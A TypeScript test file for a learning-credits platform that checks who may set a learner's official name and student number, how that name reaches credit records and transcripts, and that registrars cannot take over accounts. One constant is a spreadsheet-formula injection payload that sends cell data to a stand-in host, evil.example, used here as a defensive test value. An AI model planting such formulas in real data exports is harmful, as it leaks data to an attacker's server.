/**
 * Who a learner is on official records: `name` is the display name the learner edits; the name on
 * credit records and transcripts is `officialName` (学籍姓名), which only an administrator or a
 * registrar of the learner's home university sets — with `studentNumber`, and nothing else of the
 * learner's account.
 */
import request from 'supertest'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runJobs } from '../helpers/credits'
import { as, createCourse, createOrganization, createUser, login, PASSWORD } from '../helpers/fixtures'
import { startTestApp, type TestApp } from '../helpers/testApp'

type Id = number | string
type Doc = Record<string, any>
let t: TestApp
let uniA: Id
let uniB: Id
let enterprise: Id
let adminToken: string
let organizerToken: string
let registrarA: { id: Id; token: string }
let registrarB: { id: Id; token: string }

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'

beforeAll(async () => {
  t = await startTestApp()
  uniA = (await createOrganization(t.payload, 'university', '10486', '甲大学')).id
  uniB = (await createOrganization(t.payload, 'university', '10487', '乙大学')).id
  enterprise = (await createOrganization(t.payload, 'enterprise', '91441900MA51LP0011', '甲企业')).id
  const agency = (await createOrganization(t.payload, 'agency', '12441900MB2C000018')).id
  adminToken = await login(t.app, (await createUser(t.payload, ['admin'], agency)).email)
  organizerToken = await login(t.app, (await createUser(t.payload, ['organizer'], agency)).email)
  const a = await createUser(t.payload, ['registrar'], uniA)
  const b = await createUser(t.payload, ['registrar'], uniB)
  registrarA = { id: a.id, token: await login(t.app, a.email) }
  registrarB = { id: b.id, token: await login(t.app, b.email) }
})
afterAll(async () => t?.stop())

let seq = 0
async function student(extra: Record<string, unknown> = {}) {
  seq++
  const user = await createUser(t.payload, ['student'], uniA, { name: `林晓彤${seq}`, homeUniversity: uniA, studentNumber: `20241101${String(seq).padStart(2, '0')}`, ...extra })
  return { ...user, token: await login(t.app, user.email) }
}
const read = async (id: Id) => (await t.payload.findByID({ collection: 'users', id, depth: 0, overrideAccess: true, showHiddenFields: true })) as Doc

describe('official name', () => {
  it('is copied from the name when an administrator creates a user without one, and kept when given', async () => {
    const copied = await as(t.app, adminToken).post('/api/users').send({ email: `new-${++seq}@test.lianpei`, password: PASSWORD, name: '马俊杰', roles: ['student'], organization: uniA, homeUniversity: uniA })
    expect(copied.status, JSON.stringify(copied.body)).toBe(201)
    expect(copied.body.doc).toMatchObject({ name: '马俊杰', officialName: '马俊杰' })
    const given = await as(t.app, adminToken).post('/api/users').send({ email: `new-${++seq}@test.lianpei`, password: PASSWORD, name: '小马', officialName: '马俊杰', roles: ['student'], organization: uniA })
    expect(given.body.doc).toMatchObject({ name: '小马', officialName: '马俊杰' })
  })

  it('goes on the credit record and the transcript, whatever display name the learner gives themselves', async () => {
    const s = await student()
    const before = await read(s.id)
    const rename = await as(t.app, s.token).patch(`/api/users/${s.id}`).send({ name: FORMULA })
    expect(rename.status, JSON.stringify(rename.body)).toBe(200)
    expect((await read(s.id)).name).toBe(FORMULA)

    const course = await createCourse(t.payload, enterprise)
    const done = await as(t.app, organizerToken).post('/api/completions').send({ learner: s.id, source: { relationTo: 'courses', value: course.id }, score: 90 })
    expect(done.status, JSON.stringify(done.body)).toBe(201)
    await runJobs(t.payload)
    const { docs } = await t.payload.find({ collection: 'credit-records', where: { learner: { equals: s.id } }, overrideAccess: true, depth: 0 })
    expect(docs).toHaveLength(1)
    expect(docs[0].learnerName).toBe(before.officialName)
    expect(docs[0].learnerName).toMatch(/^林晓彤/)

    const transcript = await request(t.app).get('/api/credit-records/transcript').set('Authorization', `JWT ${s.token}`).buffer(true).parse((r, cb) => {
      let text = ''
      r.on('data', (c: Buffer) => (text += c))
      r.on('end', () => cb(null, text))
    })
    expect(transcript.status).toBe(200)
    const claims = JSON.parse(Buffer.from((transcript.body as string).split('.')[1], 'base64url').toString('utf8'))
    expect(claims.vc.name).toBe(`${before.officialName} · LianPei transcript`)
  })

  it('falls back to the name only for a user who has none (data from before the field)', async () => {
    const s = await student()
    await t.payload.db.updateOne({ collection: 'users', id: s.id, data: { officialName: null }, req: {} as never })
    const course = await createCourse(t.payload, enterprise)
    await as(t.app, organizerToken).post('/api/completions').send({ learner: s.id, source: { relationTo: 'courses', value: course.id }, score: 90 })
    await runJobs(t.payload)
    const { docs } = await t.payload.find({ collection: 'credit-records', where: { learner: { equals: s.id } }, overrideAccess: true, depth: 0 })
    expect(docs[0].learnerName).toBe((await read(s.id)).name)
  })
})

describe('who may change it', () => {
  it('not the learner: officialName and studentNumber are dropped from their own update, as roles and homeUniversity are', async () => {
    const s = await student()
    const before = await read(s.id)
    const res = await as(t.app, s.token).patch(`/api/users/${s.id}`).send({ officialName: FORMULA, studentNumber: '9999999999', roles: ['admin'], homeUniversity: uniB, name: '晓彤' })
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    const after = await read(s.id)
    expect(after).toMatchObject({ officialName: before.officialName, studentNumber: before.studentNumber, roles: ['student'], homeUniversity: uniA, name: '晓彤' })
  })

  it('the registrar of the learner’s home university: officialName and studentNumber', async () => {
    const s = await student()
    const res = await as(t.app, registrarA.token).patch(`/api/users/${s.id}`).send({ officialName: '林晓彤（更正）', studentNumber: '2024119999' })
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    expect(await read(s.id)).toMatchObject({ officialName: '林晓彤（更正）', studentNumber: '2024119999' })
  })

  it('but nothing else of the learner’s account: other fields are dropped, a password is refused with 403', async () => {
    const s = await student()
    const before = await read(s.id)
    const res = await as(t.app, registrarA.token).patch(`/api/users/${s.id}`).send({
      name: '改名',
      email: `taken-over-${seq}@test.lianpei`,
      roles: ['admin'],
      organization: uniB,
      homeUniversity: uniB,
      preferredLanguage: 'en',
      enableAPIKey: true,
      apiKey: 'registrar-chose-this-key',
      officialName: '林晓彤（更正）',
    })
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    const after = await read(s.id)
    for (const field of ['name', 'email', 'roles', 'organization', 'homeUniversity', 'preferredLanguage', 'enableAPIKey']) expect(after[field], field).toEqual(before[field])
    expect(after.officialName).toBe('林晓彤（更正）')
    const byKey = await request(t.app).get('/api/users/me').set('Authorization', 'users API-Key registrar-chose-this-key')
    expect(byKey.body.user ?? null).toBeNull()

    const password = await as(t.app, registrarA.token).patch(`/api/users/${s.id}`).send({ password: 'registrar-chose-this' })
    expect(password.status).toBe(403)
    expect(password.body.errors[0].message).toMatch(/only your own password/)
    const zh = await request(t.app).patch(`/api/users/${s.id}`).set('Authorization', `JWT ${registrarA.token}`).send({ password: 'registrar-chose-this' })
    expect(zh.body.errors[0].message).toMatch(/[\u4e00-\u9fff]/)
    await expect(login(t.app, s.email, 'registrar-chose-this')).rejects.toThrow(/401/)
    expect(await login(t.app, s.email)).toBeTruthy()
  })

  it('not a registrar of another university, nor a registrar for themselves', async () => {
    const s = await student()
    const before = await read(s.id)
    const res = await as(t.app, registrarB.token).patch(`/api/users/${s.id}`).send({ officialName: '别人', studentNumber: '1' })
    expect([403, 404]).toContain(res.status)
    expect(await read(s.id)).toEqual(before)

    const self = await as(t.app, registrarA.token).patch(`/api/users/${registrarA.id}`).send({ officialName: '自己改', name: '陈立群' })
    expect(self.status).toBe(200)
    expect(await read(registrarA.id)).toMatchObject({ name: '陈立群' })
    expect((await read(registrarA.id)).officialName).not.toBe('自己改')
  })

  it('an administrator: anything', async () => {
    const s = await student()
    const res = await as(t.app, adminToken).patch(`/api/users/${s.id}`).send({ officialName: '管理员改', studentNumber: '2024000000' })
    expect(res.status).toBe(200)
    expect(await read(s.id)).toMatchObject({ officialName: '管理员改', studentNumber: '2024000000' })
    const emptied = await as(t.app, adminToken).patch(`/api/users/${s.id}`).send({ officialName: '' })
    expect(emptied.status).toBe(400)
    expect(JSON.stringify(emptied.body)).toContain('the official name cannot be emptied')
  })

  it('keeps API keys unreadable and a registrar’s own key theirs to set', async () => {
    const r = await createUser(t.payload, ['registrar'], uniA, { enableAPIKey: true, apiKey: 'own-key-of-registrar' })
    const token = await login(t.app, r.email)
    const seen = await as(t.app, adminToken).get(`/api/users/${r.id}`)
    expect(seen.status).toBe(200)
    expect(seen.body.apiKey).toBeUndefined()
    expect(JSON.stringify(seen.body)).not.toContain('own-key-of-registrar')
    const rotate = await as(t.app, token).patch(`/api/users/${r.id}`).send({ enableAPIKey: true, apiKey: 'rotated-key-of-registrar' })
    expect(rotate.status, JSON.stringify(rotate.body)).toBe(200)
    const me = await request(t.app).get('/api/users/me').set('Authorization', 'users API-Key rotated-key-of-registrar')
    expect(me.body.user?.id).toBe(r.id)
  })
})

describe('login lockout', () => {
  it('only an administrator may unlock an account that too many failed logins locked', async () => {
    const victim = await createUser(t.payload, ['student'], uniA, { homeUniversity: uniA })
    await t.payload.db.updateOne({ collection: 'users', id: victim.id, data: { loginAttempts: 5, lockUntil: new Date(Date.now() + 600_000).toISOString() } } as never)
    const registrarTry = await as(t.app, registrarA.token).post('/api/users/unlock').send({ email: victim.email })
    expect(registrarTry.status).toBe(403)
    expect((await read(victim.id)).lockUntil).toBeTruthy()
    const adminTry = await as(t.app, adminToken).post('/api/users/unlock').send({ email: victim.email })
    expect(adminTry.status).toBe(200)
    expect((await read(victim.id)).lockUntil ?? null).toBeNull()
  })
})
